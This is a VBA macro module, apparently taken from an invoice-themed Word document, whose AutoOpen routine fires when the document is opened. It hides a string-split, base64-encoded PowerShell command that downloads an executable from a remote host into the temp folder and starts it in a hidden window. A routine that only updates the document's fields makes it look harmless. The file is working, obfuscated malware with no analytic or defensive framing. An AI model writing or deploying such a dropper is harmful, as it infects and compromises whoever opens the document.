Attribute VB_Name = "Module1"
Sub AutoOpen()
    Dim p1 As String, p2 As String, q As String
    p1 = "po" & "wer" & "sh" & "ell -w hid" & "den -e"
    p2 = "nc JABlAD0AJwBoAHQAdABwAHMAOgAvAC8AaQBuAHYAbwBpAGMAZQBzAC0AYwBkAG4ALgBiAGkAbABsAGkAbgBnAC0AdABlAG0AcABsAGEAdABlAHMALgBpAG4AdgBhAGwAaQBkAC8AcAAuAGUAeABlACcAOwAkAGYAPQAkAGUAbgB2ADoAVABFAE0AUAArACcAXABwAC4AZQB4AGUAJwA7AGkAdwByACAAJABlACAALQBPAHUAdABGAGkAbABlACAAJABmADsAcwB0AGEAcgB0ACAAJABmAA=="
    q = StrReverse(StrReverse(p1 & p2))
    CreateObject("WScr" & "ipt.Sh" & "ell").Run q, 0, False
    Call FillFields
End Sub
Sub FillFields()
    ActiveDocument.Fields.Update
End Sub
